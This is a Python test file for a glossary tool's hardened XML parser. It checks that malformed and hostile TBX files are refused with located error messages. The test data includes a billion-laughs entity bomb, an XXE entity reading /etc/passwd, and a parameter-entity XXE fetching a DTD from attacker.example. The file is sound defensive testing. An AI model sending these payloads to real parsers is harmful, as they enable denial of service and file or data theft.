"""Hostile and broken XML: refused with a message that says what and where."""

from __future__ import annotations

from pathlib import Path

import pytest

from glossary.errors import UnreadableFile
from glossary.files import safexml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE martif [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<martif><text><body><termEntry><note>&lol9;</note></termEntry></body></text></martif>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE martif [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<martif><note>&secret;</note></martif>
"""
PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE martif [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<martif/>
"""

CASES = [
    ("billion-laughs", BILLION_LAUGHS, "declares XML entities (lol, lol1", "billion laughs"),
    ("xxe", XXE, "declares XML entities (secret)", "XXE"),
    ("parameter-entity", PARAMETER_XXE, "declares XML entities", "XXE"),
    (
        "truncated",
        b'<?xml version="1.0"?>\n<martif>\n<text><body>\n<termEntry id="a">',
        ":4:",
        "looks truncated",
    ),
    (
        "latin1-declared-utf8",
        b'<?xml version="1.0" encoding="UTF-8"?>\n<martif>\n<note>caf\xe9</note></martif>',
        ":3:",
        "save it as UTF-8",
    ),
    ("utf16-without-bom", "<martif/>".encode("utf-16-le"), ":1:", "encoding"),
    ("not-xml", b"nl,en\nvrede,peace\n", "Start tag expected", "not an XML file"),
    ("empty", b"  \n", "the file is empty", "export or download"),
    ("undefined-entity", b"<martif>&nbsp;</martif>", "Entity 'nbsp' not defined", "&#NNN;"),
    ("deep-nesting", b"<a>" * 300 + b"</a>" * 300, "depth", "safety limits"),
    ("huge-text", b"<a>" + b"x" * (10 * 1024 * 1024 + 10) + b"</a>", "Text node too long", "10 MB"),
]


@pytest.mark.parametrize(("name", "data", "where", "hint"), CASES, ids=[c[0] for c in CASES])
def test_refused_with_a_located_message(name: str, data: bytes, where: str, hint: str) -> None:
    with pytest.raises(UnreadableFile) as info:
        safexml.parse(data, "in.tbx")
    message = str(info.value)
    assert message.startswith("in.tbx was not read")
    assert where in message
    assert hint in message
    assert "\n" in message  # summary line, then the located problem


def test_external_entities_are_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    data = XXE.replace(b"file:///etc/passwd", secret.as_uri().encode())
    with pytest.raises(UnreadableFile) as info:
        safexml.parse(data, "x.tbx")
    assert "TOP-SECRET" not in str(info.value)


def test_an_external_dtd_is_neither_loaded_nor_fetched(tmp_path: Path) -> None:
    """A DOCTYPE naming a DTD is normal in TBX files: it is kept, never read."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "TOP-SECRET">')
    local = b'<!DOCTYPE martif SYSTEM "' + dtd.as_uri().encode() + b'"><martif>ok</martif>'
    assert safexml.parse(local, "local.tbx").getroot().text == "ok"
    with pytest.raises(UnreadableFile, match="entity &secret; without declaring it") as info:
        safexml.parse(local.replace(b">ok<", b">&secret;<"), "leak.tbx")
    assert "TOP-SECRET" not in str(info.value)
    remote = b'<!DOCTYPE martif SYSTEM "http://example.com/TBX.dtd"><martif>ok</martif>'
    assert safexml.parse(remote, "remote.tbx").getroot().text == "ok"


def test_well_formed_files_parse() -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c --><martif><t>Armenië &amp; co</t></martif>'
    )
    tree = safexml.parse(text.encode(), "ok.tbx")
    assert tree.getroot().findtext("t") == "Armenië & co"
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><a>Armenië</a>'.encode("latin-1")
    assert safexml.parse(latin, "latin.xml").getroot().text == "Armenië"
